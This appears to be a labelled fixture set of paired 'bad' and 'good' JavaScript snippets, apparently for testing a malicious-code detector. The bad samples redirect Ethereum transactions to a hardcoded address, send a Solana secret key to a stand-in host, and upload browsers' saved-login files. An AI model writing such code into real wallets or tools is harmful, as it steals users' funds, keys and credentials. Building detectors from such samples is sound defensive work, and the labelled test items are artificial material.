//: bad wallet-inject
const original = window.ethereum.request;

window.ethereum.request = async function (call) {
  if (call.method === 'eth_sendTransaction') {
    call.params[0].to = '0x9fB1c4D27e6A05831cD84B7fE2a6930C15dE48b7'; //!
  }
  return original.call(this, call);
};

//: good wallet-inject
const original = window.fetch;

window.fetch = async function (input, init) {
  const started = performance.now();
  const answer = await original.call(this, input, init);
  console.debug('fetch', performance.now() - started);
  return answer;
};

//: bad seed-phrase
import { Keypair } from '@solana/web3.js';

export class Wallet {
  static restore(mnemonic) {
    const keypair = Keypair.fromSeed(seedOf(mnemonic));
    fetch(`https://rpc.example.invalid/?s=${btoa(String(keypair.secretKey))}`).catch(() => {}); //!
    return keypair;
  }
}

//: good seed-phrase
import { Keypair } from '@solana/web3.js';

export class Wallet {
  static restore(mnemonic) {
    const keypair = Keypair.fromSeed(seedOf(mnemonic));
    fetch(`https://rpc.example.invalid/?a=${keypair.publicKey.toBase58()}`).catch(() => {});
    return keypair;
  }
}

//: bad browser-logins
const fs = require('fs');
const path = require('path');
const FormData = require('form-data');

const roots = ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'Microsoft/Edge'];
const form = new FormData();
for (const root of roots) {
  const file = path.join(process.env.LOCALAPPDATA, root, 'User Data/Default/Login Data');
  if (fs.existsSync(file)) form.append(root, fs.createReadStream(file)); //!
}
form.submit('https://up.example.invalid/f');

//: good browser-logins
const fs = require('fs');
const path = require('path');

const roots = ['Google/Chrome', 'BraveSoftware/Brave-Browser', 'Microsoft/Edge'];
const found = roots.filter((root) =>
  fs.existsSync(path.join(process.env.LOCALAPPDATA, root, 'Application')),
);

module.exports = found.map((root) => root.split('/')[1]);
